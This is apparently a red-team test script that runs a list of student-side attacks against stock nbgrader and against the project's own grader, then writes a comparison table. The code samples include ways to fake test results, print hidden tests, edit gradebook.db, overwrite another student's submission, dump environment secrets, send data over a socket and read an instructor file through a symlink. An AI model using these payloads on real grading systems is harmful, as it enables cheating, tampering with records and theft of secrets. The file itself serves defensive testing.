"""The same attacks on plain nbgrader and on this grader: ``python -m tests.redteam.plain``.

Writes docs/plain-nbgrader.md. Every attack is harmless outside the temporary folder that it is
tried in. Plain nbgrader grades an assignment with one exercise, as its documentation shows them;
this grader grades 01-forgetting, in which the same exercise, worth 2 points too, is answered in the
same way.
"""

from __future__ import annotations

import copy
import json
import os
import socket
import sys
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.api import Gradebook, MissingEntry
from tqdm import tqdm

from autograder.assignments import FORGETTING
from autograder.notebooks import ROOT, grade_id
from autograder.submissions import hand_in, untouched
from tests.running import autograder, nbgrader

PAGE = ROOT / "docs" / "plain-nbgrader.md"
SECRET = "the-instructors-secret"
RIGHT = """import torch

def relabel(y, classes):
    return torch.tensor([list(classes).index(int(label)) for label in y])
"""
WRONG = "import torch\n\ndef relabel(y, classes):\n    return y * 0 - 1\n"
TESTS = """### BEGIN HIDDEN TESTS
right = torch.tensor([2, 0, 1])
score = 2.0 * (relabel(torch.tensor([7, 3, 5]), (3, 5, 7)) == right).double().mean()
score.item()
### END HIDDEN TESTS
"""


@dataclass
class Found:
    """What became of the attacker ``eve`` and of ``zoe``, who is right and comes after her."""

    points: float | None
    others: float | None
    shown: str
    page: str
    beside: str
    listened: list[bytes]
    flags: list[str]


@dataclass
class Attack:
    """``tamper`` changes a wrong submission; ``learnt`` says what was gained besides points."""

    name: str
    tamper: Callable[[nbformat.NotebookNode], None]
    learnt: Callable[[Found], str] = lambda found: ""
    beside: bool = False
    raw: str = ""


ATTACKS: list[Attack] = []


def code(name, learnt=lambda found: ""):
    """Adds an attack that is a solution cell's code; ``PORT`` in it is a listener's port."""

    def add(source):
        ATTACKS.append(Attack(name, lambda notebook: answer(notebook, source), learnt))

    return add


def answer(notebook, source):
    for cell in notebook.cells:
        if grade_id(cell) == "relabel":
            cell.source = source


def test_cell(notebook):
    return next(cell for cell in notebook.cells if grade_id(cell) == "test-relabel")


def skip(notebook):
    test_cell(notebook).metadata["tags"] = ["skip-execution"]


def double(notebook):
    twin = copy.deepcopy(test_cell(notebook))
    twin.id = "twin"
    notebook.cells.append(twin)


def delete(notebook):
    notebook.cells.remove(test_cell(notebook))


def script(notebook):
    notebook.cells.append(new_markdown_cell("<script>window.taken = 1</script>"))


ATTACKS += [
    Attack("a tag `skip-execution` on the test cell", skip),
    Attack("the test cell twice", double),
    Attack("the test cell deleted", delete),
]
code("a result that makes the points not a number")(
    WRONG
    + """
class Nan:
    def __eq__(self, other):
        return torch.tensor([float("nan")])

def relabel(y, classes):
    return Nan()
"""
)
code("a result that equals everything")(
    WRONG
    + """
class Liar:
    def __eq__(self, other):
        return torch.ones(3)

def relabel(y, classes):
    return Liar()
"""
)
code("comparisons of tensors replaced")(
    WRONG
    + """
torch.Tensor.__eq__ = lambda a, b: torch.ones(3)
torch.equal = torch.allclose = lambda *args, **kwargs: True
"""
)
code("an input transformer that rewrites the test cell")(
    WRONG + '\nget_ipython().input_transformers_cleanup.append(lambda lines: ["2.0\\n"])\n'
)
code("expected values looked up in the caller's frame")(
    WRONG
    + """
import sys

def relabel(y, classes):
    frame = sys._getframe()
    while frame is not None:
        for values in (frame.f_locals, frame.f_globals):
            for name in ("right", "positions", "expected"):
                if name in values:
                    return values[name]
        frame = frame.f_back
    return y * 0 - 1
"""
)
code(
    "hidden tests printed",
    lambda found: "the student reads the tests" if "score.item()" in found.shown else "",
)(
    WRONG
    + """
def relabel(y, classes):
    for source in get_ipython().user_ns["In"]:
        print(source)
    return y * 0 - 1

relabel(torch.tensor([1]), [1])
"""
)
code("points written into the gradebook")(
    WRONG
    + """
import pathlib, sqlite3
for folder in pathlib.Path.cwd().parents:
    if (folder / "gradebook.db").exists():
        gradebook = sqlite3.connect(folder / "gradebook.db")
        gradebook.execute("update grade set extra_credit = 2")
        gradebook.commit()
        gradebook.close()
"""
)
code("other submissions overwritten")(
    WRONG
    + """
import pathlib
for folder in pathlib.Path.cwd().parents:
    for other in folder.glob("submitted/*/*/*.ipynb"):
        if "zoe" in str(other):
            other.write_text(other.read_text().replace(".index", ".count"))
"""
)
code(
    "the environment printed",
    lambda found: "the student reads it" if SECRET in found.shown else "",
)(WRONG + "\nimport os\nprint(dict(os.environ))\n")
code(
    "a connection to the network",
    lambda found: "data leaves" if found.listened else "",
)(
    WRONG
    + """
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"hello")
except OSError as error:
    print(error)
"""
)
code("`os._exit` in the function")(
    WRONG + "\nimport os\n\ndef relabel(y, classes):\n    os._exit(0)\n"
)
code("an endless loop in the function")(
    WRONG + "\ndef relabel(y, classes):\n    while True:\n        pass\n"
)
code("(no attack) the right answer, which warns on stderr")(
    RIGHT.replace("    return", '    import sys\n    print("careful", file=sys.stderr)\n    return')
)
ATTACKS += [
    Attack(
        "a script in a text cell",
        script,
        lambda found: "the script runs" if "<script>window.taken" in found.page else "",
    ),
    Attack(
        "a link to a file of the instructor's",
        lambda notebook: None,
        lambda found: "the file is copied" if SECRET in found.beside else "",
        beside=True,
    ),
    Attack("a notebook that is broken", lambda notebook: None, raw='{"cells": ['),
]


def plain_source():
    """An assignment with one exercise of 2 points."""

    def mark(grade_id, **fields):
        settings = {"grade": False, "solution": False, "locked": False, "task": False}
        return {"nbgrader": settings | {"schema_version": 3, "grade_id": grade_id} | fields}

    solution = RIGHT.replace("    return", "    ### BEGIN SOLUTION\n    return")
    notebook = new_notebook(
        cells=[
            new_markdown_cell("# Labels"),
            new_code_cell(solution + "    ### END SOLUTION\n", metadata=mark("relabel")),
            new_code_cell(TESTS, metadata=mark("test-relabel")),
        ]
    )
    notebook.cells[1].metadata["nbgrader"]["solution"] = True
    notebook.cells[2].metadata["nbgrader"] |= {"grade": True, "locked": True, "points": 2}
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    notebook.metadata = {"kernelspec": kernel}
    return notebook


class Listener:
    """A socket on this machine that keeps what it is sent."""

    def __init__(self):
        self.heard = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            connection, _ = self._socket.accept()
            with connection:
                self.heard.append(connection.recv(100))


def write(attack, notebook, path, folder, port):
    """Hands in one attack."""
    answer(notebook, WRONG)
    attack.tamper(notebook)
    for cell in notebook.cells:
        cell.source = cell.source.replace("PORT", str(port))
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    if attack.raw:
        path.write_text(attack.raw)
    if attack.beside:
        (folder / "secret.txt").write_text(SECRET)
        (path.parent / "notes.txt").symlink_to(folder / "secret.txt")


def points(root, assignment, student):
    """Points in the gradebook for ``relabel``, extra credit included; None without a grade."""
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        try:
            notebook = gradebook.find_submission_notebook(assignment, assignment, student)
        except MissingEntry:
            return None
        grades = [grade for grade in notebook.grades if grade.name == "test-relabel"]
        scores = [grade.score for grade in grades if grade.auto_score is not None]
        extra = sum(grade.extra_credit or 0.0 for grade in grades)
        return sum(scores) + extra if scores or extra else None


def text_of(path):
    return path.read_text() if path.exists() else ""


def look(root, assignment, student, listener, flags):
    done = root / "autograded" / student / assignment
    feedback = root / "feedback" / student / assignment / f"{assignment}.html"
    return Found(
        points(root, assignment, student),
        points(root, assignment, "zoe"),
        text_of(done / f"{assignment}.ipynb"),
        text_of(feedback),
        text_of(done / "notes.txt"),
        list(listener.heard),
        flags,
    )


def on_plain_nbgrader(attack, folder):
    """A course with stock configuration: generate, hand in, autograde, feedback."""
    root, listener = folder / "plain", Listener()
    (root / "source" / "labels").mkdir(parents=True)
    nbformat.write(plain_source(), root / "source" / "labels" / "labels.ipynb")
    assert nbgrader("generate_assignment", "labels", cwd=root).returncode == 0
    released = root / "release" / "labels" / "labels.ipynb"
    submitted = root / "submitted"
    for student in ("eve", "zoe"):
        notebook = nbformat.read(released, as_version=4)
        path = submitted / student / "labels" / "labels.ipynb"
        if student == "eve":
            write(attack, notebook, path, folder, listener.port)
        else:
            answer(notebook, RIGHT)
            path.parent.mkdir(parents=True)
            nbformat.write(notebook, path)
    nbgrader("autograde", "labels", cwd=root)
    nbgrader("generate_feedback", "labels", cwd=root)
    return look(root, "labels", "eve", listener, [])


def on_this_grader(folder):
    """All attacks in one class, zoe last."""
    root, listener, what = folder / "here", Listener(), FORGETTING
    root.mkdir()
    for number, attack in enumerate(ATTACKS):
        path = root / "submitted" / f"eve{number:02d}" / what.id / f"{what.id}.ipynb"
        write(attack, untouched(what), path, folder, listener.port)
    honest = untouched(what)
    answer(honest, RIGHT)
    hand_in(honest, root, "zoe", what)
    report = root / "report.json"
    done = autograder("grade", what.id, "--root", root, "--json", report)
    assert done.returncode == 0, done.stdout + done.stderr
    (root / "nbgrader_config.py").write_text((ROOT / "nbgrader_config.py").read_text())
    nbgrader("generate_feedback", what.id, cwd=root)
    rows = {r["student"]: r for r in json.loads(report.read_text())["submissions"]}
    students = [f"eve{number:02d}" for number in range(len(ATTACKS))]
    return [look(root, what.id, s, listener, rows[s]["flags"]) for s in students]


def words(attack, found):
    """An outcome for the table."""
    parts = ["no grade" if found.points is None else f"{found.points:g} of 2 points"]
    if attack.learnt(found):
        parts.append(attack.learnt(found))
    if found.others is None:
        parts.append("the next student gets no grade")
    elif found.others != 2:
        parts.append(f"the next student, who is right, gets {found.others:g}")
    parts += [f"flag `{flag.split(':')[0]}`" for flag in found.flags[:2]]
    return "; ".join(parts)


def table():
    """The rows (attack, plain nbgrader, here), all of them run."""
    os.environ["COURSE_SECRET"] = SECRET
    with tempfile.TemporaryDirectory() as name:
        here = on_this_grader(Path(name))
        rows = []
        for number, attack in enumerate(tqdm(ATTACKS, desc="plain nbgrader", disable=None)):
            folder = Path(name) / str(number)
            folder.mkdir()
            plain = on_plain_nbgrader(attack, folder)
            rows.append((attack.name, words(attack, plain), words(attack, here[number])))
        return rows


def page(rows):
    lines = [
        "# Attacks on plain nbgrader, and here",
        "",
        "Generated by `python -m tests.redteam.plain`, which runs every line of both columns: "
        f"nbgrader {version('nbgrader')} with its stock configuration, and this project's. "
        "The answer handed in with each attack is wrong, and honestly worth nothing.",
        "",
        "| attack | plain nbgrader | here |",
        "|---|---|---|",
        *(f"| {' | '.join(row)} |" for row in rows),
    ]
    return "\n".join(lines) + "\n"


def main():
    PAGE.write_text(page(table()))
    print(f"written: {PAGE}", file=sys.stderr)


if __name__ == "__main__":
    main()
